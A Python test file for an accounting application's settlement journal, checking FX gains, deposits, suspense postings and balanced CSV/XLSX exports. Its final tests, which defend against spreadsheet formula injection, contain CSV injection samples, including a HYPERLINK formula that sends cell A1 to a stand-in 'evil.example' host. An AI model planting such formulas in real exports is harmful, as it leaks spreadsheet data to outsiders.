"""The settlement journal balances, and every exported file is safe to open in Excel."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from orderdesk.adapters.banks.exports import csv_bytes, csv_cell
from orderdesk.cli import main
from orderdesk.domain.payments.ledger import applied_allocations
from orderdesk.domain.payments.settlement import (
    Ledger,
    SettlementError,
    journal_frame,
    settlement_journal,
)
from orderdesk.domain.reference.fx import fx_rate
from orderdesk.schema import BankEntries, Invoices
from tests.bank.conftest import FILES
from tests.libreoffice import convert, needs_soffice

ACCOUNTS = {
    "bank": ("1020", "Bank USD"),
    "bank eur": ("1021", "Bank EUR"),
    "receivables": ("1200", "Receivables"),
    "customer deposits": ("2150", "Advances"),
    "bank charges": ("6810", "Charges"),
    "fx gain": ("7910", "FX gains"),
    "fx loss": ("6910", "FX losses"),
    "suspense": ("1999", "Suspense"),
}


def fixed_rates(series_from: pd.Series, series_to: pd.Series, on: pd.Series) -> pd.DataFrame:
    """USD→EUR 0.80 before October 2026, 0.90 from then on; everything else unknown."""
    rates = []
    for a, b, d in zip(series_from, series_to, on, strict=True):
        if (a, b) == ("USD", "EUR"):
            rates.append(0.8 if pd.Timestamp(d) < pd.Timestamp(2026, 10, 1) else 0.9)
        elif a == b:
            rates.append(1.0)
        else:
            rates.append(float("nan"))
    return pd.DataFrame({"rate": rates, "fixing": pd.to_datetime(list(on))})


def entries(*rows: tuple[str, float, str, str | None, str]) -> pd.DataFrame:
    """(ref, amount, currency, matched invoices, status), booked and valued 2026-10-20."""
    frame = pd.DataFrame(
        rows,
        columns=[
            BankEntries.entry_ref,
            BankEntries.amount,
            BankEntries.currency,
            BankEntries.matched_invoices,
            BankEntries.match_status,
        ],
        index=pd.Index(range(2, 2 + len(rows)), name="row"),
    )
    frame[BankEntries.booking_date] = pd.Timestamp(2026, 10, 20)
    frame[BankEntries.value_date] = pd.Timestamp(2026, 10, 20)
    frame[BankEntries.payer] = "NORDIC HOME AB"
    frame[BankEntries.remittance] = "PAYMENT"
    return frame


INVOICES = pd.DataFrame(
    {
        Invoices.invoice_no: ["INV-R", "INV-D"],
        Invoices.customer: ["CU-3", "CU-3"],
        Invoices.kind: ["full", "deposit"],
        Invoices.issue_date: [pd.Timestamp(2026, 9, 1), pd.Timestamp(2026, 9, 1)],
        Invoices.currency: ["USD", "USD"],
        Invoices.amount: [1000.0, 300.0],
    }
)


def journal(frame: pd.DataFrame, base: str = "EUR") -> pd.DataFrame:
    allocs = applied_allocations(frame, INVOICES, rates=fixed_rates).allocations
    lines = settlement_journal(
        frame, allocs, INVOICES, Ledger(ACCOUNTS, base), "2026-10", rates=fixed_rates
    )
    return journal_frame(lines)


def side(j: pd.DataFrame, account: str) -> tuple[Decimal, Decimal]:
    rows = j.loc[j["Account"] == account]
    return sum(rows["Debit"], Decimal(0)), sum(rows["Credit"], Decimal(0))


def test_receivable_in_foreign_currency_realises_an_exchange_difference() -> None:
    # 990 USD received on 2026-10-20 (0.90) for a 1,000 USD invoice issued 2026-09-01 (0.80):
    # Dr bank 990 × 0.90 = 891.00; Dr charges 10 × 0.90 = 9.00; Cr receivables 1,000 × 0.80 =
    # 800.00; debits 900.00 − credits 800.00 = 100.00 → Cr FX gain 100.00.
    j = journal(entries(("R1", 990.0, "USD", "INV-R: 1000.00", "matched")))
    assert side(j, "1020") == (Decimal("891.00"), 0)
    assert side(j, "6810") == (Decimal("9.00"), 0)
    assert side(j, "1200") == (0, Decimal("800.00"))
    assert side(j, "7910") == (0, Decimal("100.00"))
    assert sum(j["Debit"]) == sum(j["Credit"]) == Decimal("900.00")
    bank = j.loc[j["Account"] == "1020"].iloc[0]
    assert (bank["Currency"], bank["Amount"], bank["FX Rate"]) == (
        "USD",
        Decimal("990.00"),
        Decimal("0.9"),
    )
    assert bank["Customer"] == "CU-3" and bank["Bank Reference"] == "R1"


def test_a_deposit_is_an_advance_at_the_rate_of_its_receipt() -> None:
    # 300 USD for a deposit invoice: Dr bank 270.00, Cr customer deposits 300 × 0.90 = 270.00
    j = journal(entries(("R2", 300.0, "USD", "INV-D: 300.00", "confirmed")))
    assert side(j, "2150") == (0, Decimal("270.00"))
    assert set(j["Account"]) == {"1020", "2150"}  # no exchange difference on an advance


def test_unapplied_receipts_go_to_suspense_and_outgoing_ones_are_left_out() -> None:
    j = journal(
        entries(
            ("R3", 50.0, "USD", None, "suggested"),
            ("R4", -20.0, "USD", None, "outgoing"),
            ("R5", 80.0, "USD", None, "ignored"),
        )
    )
    assert set(j["Bank Reference"]) == {"R3"}
    assert side(j, "1999") == (0, Decimal("45.00"))  # 50 × 0.90


def test_base_currency_receipt_and_period_bounds() -> None:
    frame = entries(("R6", 1000.0, "USD", "INV-R: 1000.00", "matched"))
    j = journal(frame, base="USD")
    assert list(zip(j["Account"], j["Debit"], j["Credit"], strict=True)) == [
        ("1020", Decimal("1000.00"), Decimal("0.00")),
        ("1200", Decimal("0.00"), Decimal("1000.00")),
    ]
    frame[BankEntries.booking_date] = pd.Timestamp(2026, 11, 1)  # next month
    assert journal(frame, base="USD").empty


def test_missing_account_and_bad_period_are_named() -> None:
    frame = entries(("R7", 10.0, "USD", None, "unmatched"))
    no_suspense = {k: v for k, v in ACCOUNTS.items() if k != "suspense"}
    with pytest.raises(SettlementError, match="no account for 'suspense'"):
        settlement_journal(
            frame, pd.DataFrame(columns=["row"]), INVOICES, Ledger(no_suspense, "USD"), "2026-10"
        )
    with pytest.raises(SettlementError, match="period '2026/10' is not YYYY-MM"):
        settlement_journal(frame, pd.DataFrame(), INVOICES, Ledger(ACCOUNTS, "USD"), "2026/10")


def test_settlement_export_from_the_register(trade_register: Path, tmp_path: Path) -> None:
    main(
        [
            "sync",
            "bank",
            str(trade_register),
            "--statement",
            str(FILES / "camt053_v08_commerzbank.xml"),
        ]
    )
    out = tmp_path / "settlement.csv"
    code = main(
        ["export", "settlement", str(trade_register), "--period", "2026-11", "--out", str(out)]
    )
    assert code == 0
    lines = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    by_ref: dict[str, list[dict[str, str]]] = {}
    for line in lines:
        by_ref.setdefault(line["Bank Reference"], []).append(line)
    for ref, group in by_ref.items():
        debit = sum(Decimal(x["Debit"]) for x in group)
        credit = sum(Decimal(x["Credit"]) for x in group)
        assert debit == credit, ref
    # EUR 8,600 on 2026-11-02 at the ECB fixing of that day (the last before it) for a
    # USD 9,600 invoice: the bank line is 8,600 × rate, the exchange gain the rest.
    rate = fx_rate("EUR", "USD", dt.date(2026, 11, 2)).rate.quantize(Decimal("0.000001"))
    usd = (Decimal(8600) * rate).quantize(Decimal("0.01"))
    fx_lines = {x["Account"]: x for x in by_ref["2026110200555111"]}
    assert Decimal(fx_lines["1020"]["Debit"]) == usd
    assert Decimal(fx_lines["1200"]["Credit"]) == Decimal("9600.00")
    assert Decimal(fx_lines["7910"]["Credit"]) == usd - Decimal("9600.00")
    charges = {x["Account"]: x for x in by_ref["2026110200123456"]}
    assert Decimal(charges["6810"]["Debit"]) == Decimal("24.50")
    suspense = {x["Account"]: x for x in by_ref["2026110200123999"]}  # only suggested
    assert Decimal(suspense["1999"]["Credit"]) == Decimal("3000.00")

    xlsx = tmp_path / "settlement.xlsx"
    main(
        [
            "export",
            "settlement",
            str(trade_register),
            "--period",
            "2026-11",
            "--format",
            "xlsx",
            "--out",
            str(xlsx),
        ]
    )
    ws = openpyxl.load_workbook(xlsx).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    assert header[:9] == [
        "Date",
        "Account",
        "Account Name",
        "Debit",
        "Credit",
        "Currency",
        "Amount",
        "FX Rate",
        "Base Amount",
    ]
    assert ws.max_row == len(lines) + 1
    assert isinstance(ws.cell(row=2, column=4).value, int | float)  # numbers, not text


def test_csv_cells_are_neutralised_numbers_are_not() -> None:
    for text in (
        '=HYPERLINK("http://x","y")',
        "+1",
        "-5 discount",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "  =1+1",
        "＝1+1",
    ):
        assert csv_cell(text) == "'" + text
    assert csv_cell("INV-2026-0001") == "INV-2026-0001"
    assert csv_cell(Decimal("-125.50")) == "-125.50"
    assert csv_cell(-125.5) == "-125.5"
    assert csv_cell(1e6) == "1000000.0"
    assert csv_cell(dt.date(2026, 10, 31)) == "2026-10-31"


@needs_soffice
def test_libreoffice_reads_the_exports_as_text_and_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "Remittance": ['=HYPERLINK("http://evil.example/?"&A1,"Invoice")', "-5 discount"],
            "Amount": [Decimal("-125.50"), Decimal("3000.00")],
        }
    )
    path = tmp_path / "export.csv"
    path.write_bytes(csv_bytes(frame))
    raw = tmp_path / "raw.csv"
    raw.write_text("Remittance,Amount\n=1+1,-125.50\n")
    opened = convert(path, "xlsx:Calc MS Excel 2007 XML", tmp_path / "lo")
    control = convert(raw, "xlsx:Calc MS Excel 2007 XML", tmp_path / "lo")
    ws = openpyxl.load_workbook(opened).active
    assert ws is not None
    assert ws["A2"].data_type == "s" and ws["A2"].value.startswith("'=HYPERLINK")
    assert ws["A3"].data_type == "s"
    assert ws["B2"].data_type == "n" and ws["B2"].value == -125.5
    # the same cell not neutralised is a live formula to LibreOffice: the test can fail
    cw = openpyxl.load_workbook(control).active
    assert cw is not None and cw["A2"].data_type == "f"
